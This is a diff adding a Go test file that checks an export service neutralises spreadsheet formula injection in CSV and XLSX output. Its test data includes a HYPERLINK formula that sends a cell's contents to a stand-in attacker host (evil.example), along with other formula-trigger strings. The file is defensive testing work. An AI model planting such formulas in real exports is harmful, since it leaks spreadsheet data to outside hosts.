@@ -1,0 +1,79 @@
+package export
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"strings"
+	"testing"
+
+	"github.com/xuri/excelize/v2"
+)
+
+func TestNeutralise(t *testing.T) {
+	for in, want := range map[string]string{
+		"=HYPERLINK(\"http://x\",\"点我\")": "'=HYPERLINK(\"http://x\",\"点我\")",
+		"+1":                              "'+1",
+		"-2+3":                            "'-2+3",
+		"@SUM(A1)":                        "'@SUM(A1)",
+		"\t=1":                            "'\t=1",
+		"\r=1":                            "'\r=1",
+		"修缮房屋":                            "修缮房屋",
+		"":                                "",
+		"a=1":                             "a=1",
+	} {
+		if got := Neutralise(in); got != want {
+			t.Errorf("Neutralise(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+type rows [][]any
+
+func (r rows) Export(_ context.Context, _ string, _ Filter, header func([]string) error, row func([]any) error) error {
+	if err := header([]string{"reason", "points"}); err != nil {
+		return err
+	}
+	for _, x := range r {
+		if err := row(x); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// A reason typed as a formula is exported as text in both formats; numbers stay numbers.
+func TestExportsDoNotCarryFormulas(t *testing.T) {
+	evil := `=HYPERLINK("http://evil.example/?"&A1,"查看详情")`
+	s := &Service{store: rows{{evil, int64(-20)}, {"@cmd", int64(5)}}}
+	var out bytes.Buffer
+	if err := s.Write(t.Context(), "entries", "csv", Filter{}, &out); err != nil {
+		t.Fatal(err)
+	}
+	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.String(), "\ufeff"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if records[1][0] != "'"+evil || records[1][1] != "-20" || records[2][0] != "'@cmd" {
+		t.Errorf("csv rows = %q", records)
+	}
+	out.Reset()
+	if err := s.Write(t.Context(), "entries", "xlsx", Filter{}, &out); err != nil {
+		t.Fatal(err)
+	}
+	book, err := excelize.OpenReader(&out)
+	if err != nil {
+		t.Fatal(err)
+	}
+	sheet := book.GetSheetName(0)
+	for _, cell := range []string{"A2", "A3"} {
+		v, _ := book.GetCellValue(sheet, cell)
+		f, _ := book.GetCellFormula(sheet, cell)
+		if !strings.HasPrefix(v, "'") || f != "" {
+			t.Errorf("xlsx %s = %q with formula %q", cell, v, f)
+		}
+	}
+	if typ, _ := book.GetCellType(sheet, "B2"); typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
+		t.Errorf("a number became text: %v", typ)
+	}
+}
